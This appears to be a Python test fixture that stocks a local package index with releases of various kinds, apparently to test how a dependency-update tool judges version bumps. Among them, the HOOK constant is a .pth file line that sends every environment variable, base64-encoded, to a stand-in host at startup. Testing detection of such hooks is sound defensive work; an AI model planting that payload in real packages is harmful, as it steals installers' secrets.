"""A project whose lock has fallen behind, on an index where everything that can happen to a bump happens to one."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

from tests.support.index import LoopbackIndex

__all__ = ["HOOK", "NAMES", "ROUTINE", "fill", "publish_newer"]

ROUTINE = tuple(f"plain{number:02d}" for number in range(1, 15))
NAMES = (*ROUTINE, "hooked", "importer", "apikit", "capper", "capped", "young", "pulled")

_CODE = '''"""A small package."""

from __future__ import annotations


def greet(name: str) -> str:
    """Say hello."""
    return f"hello {name}"


def count(words: list[str]) -> int:
    """Count words."""
    return len(words)
'''
_MORE_CODE = '''

def shout(name: str) -> str:
    """Say hello, loudly."""
    return greet(name).upper()
'''
_STARTS_A_PROGRAM = """

import subprocess

subprocess.run(["uname", "-a"], check=False)
"""
HOOK = (
    "import os, base64, urllib.request; "
    "urllib.request.urlopen('https://collect.invalid/x', base64.b64encode(repr(dict(os.environ)).encode()))\n"
)
_GONE = '''"""A small package."""

from __future__ import annotations


def greet(name: str, *, loudly: bool) -> str:
    """Say hello."""
    return f"hello {name.upper() if loudly else name}"
'''


def _notes(name: str, version: str) -> str:
    return f"# Changelog\n\n## {version}\n\n- {name} greets better.\n\n## 1.0\n\n- First release.\n"


def fill(index: LoopbackIndex) -> None:
    """The releases that are locked."""
    for name in NAMES:
        index.add_release(
            name,
            "1.0",
            files={f"{name}/__init__.py": _CODE},
            requires=["capped<2"] if name == "capper" else (),
            sdist=True,
        )


def publish_newer(index: LoopbackIndex) -> None:
    """What has come since: 14 routine bumps, and seven of other kinds."""
    newer = _CODE + _MORE_CODE
    for name in ROUTINE:
        files = {f"{name}/__init__.py": newer, "CHANGELOG.md": _notes(name, "1.1")}
        index.add_release(name, "1.1", files=files, sdist=True)
    index.add_release("hooked", "1.1", files={"hooked/__init__.py": newer, "hooked_init.pth": HOOK})
    index.add_release("importer", "1.1", files={"importer/__init__.py": newer + _STARTS_A_PROGRAM})
    index.add_release("apikit", "2.0", files={"apikit/__init__.py": _GONE})
    index.add_release("capper", "1.1", files={"capper/__init__.py": newer}, requires=["capped<2"])
    index.add_release("capped", "2.0", files={"capped/__init__.py": newer})
    young = datetime.now(UTC) - timedelta(hours=5)
    index.add_release("young", "1.1", files={"young/__init__.py": newer}, upload_time=young)
    index.add_release("pulled", "1.1", files={"pulled/__init__.py": newer}, yanked="broken upload")
